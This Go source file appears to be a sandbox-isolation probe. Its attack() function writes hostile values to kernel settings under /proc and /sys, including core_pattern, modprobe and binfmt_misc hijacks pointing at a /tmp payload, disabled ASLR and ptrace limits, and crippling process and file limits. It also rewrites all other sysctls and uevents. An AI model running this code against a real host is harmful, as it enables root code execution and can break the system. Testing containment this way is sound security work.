package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// Writes every setting of the kernel that there is: the known dangerous ones
// with an evil value, all others with the one that they have.
func attack(where string) {
	if where == "container" {
		return
	}
	if where == "host" {
		nested("nested")
	}
	tree("/proc")
	os.MkdirAll("/tmp/proc", 0o755)
	if err := unix.Mount("proc", "/tmp/proc", "proc", 0, ""); err == nil {
		tree("/tmp/proc")
		unix.Unmount("/tmp/proc", unix.MNT_DETACH)
	}
	err := unix.Mount("sysfs", "/sys", "sysfs", 0, "")
	tried("mount sysfs", err)
	if err == nil {
		for _, path := range []string{"kernel/uevent_helper", "power/state", "power/disk", "kernel/mm/ksm/run", "kernel/mm/transparent_hugepage/enabled", "kernel/profiling", "devices/system/cpu/cpu1/online"} {
			put("/sys/"+path, evil)
		}
		filepath.WalkDir("/sys", func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Name() == "uevent" {
				if os.WriteFile(path, []byte("change"), 0) == nil {
					say("ok", "write "+path)
				}
			}
			return nil
		})
		unix.Unmount("/sys", unix.MNT_DETACH)
	}
}

func tree(proc string) {
	for _, x := range [][2]string{
		{"sys/kernel/core_pattern", "|/tmp/" + evil}, {"sysrq-trigger", "h"}, {"sys/kernel/sysrq", "511"}, {"sys/vm/drop_caches", "1"},
		{"sys/kernel/modprobe", "/tmp/" + evil}, {"sys/kernel/hotplug", "/tmp/" + evil}, {"sys/kernel/poweroff_cmd", "/tmp/" + evil},
		{"sys/vm/overcommit_memory", "2"}, {"sys/kernel/randomize_va_space", "0"}, {"sys/kernel/pid_max", "400"}, {"sys/fs/suid_dumpable", "2"},
		{"sys/kernel/panic", "7"}, {"sys/kernel/yama/ptrace_scope", "0"}, {"sys/user/max_user_namespaces", "0"}, {"sys/fs/binfmt_misc/register", ":evil:M::xx::/tmp/evil:"},
		{"sys/fs/file-max", "64"}, {"sys/kernel/threads-max", "64"}, {"timer_list", "x"}, {"1/oom_score_adj", "-1000"}, {"self/oom_score_adj", "-1000"},
		{"1/uid_map", "0 0 1"}, {"irq/default_smp_affinity", "1"}, {"mtrr", "disable=0"}, {"acpi/wakeup", "x"}, {"bus/pci/00/00.0", "x"},
	} {
		put(proc+"/"+x[0], x[1])
	}
	filepath.WalkDir(proc+"/sys", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(path, proc+"/sys/net") {
			return nil
		}
		if old, err := os.ReadFile(path); err == nil {
			if os.WriteFile(path, old, 0) == nil {
				say("ok", "write back "+path)
			}
		}
		return nil
	})
}
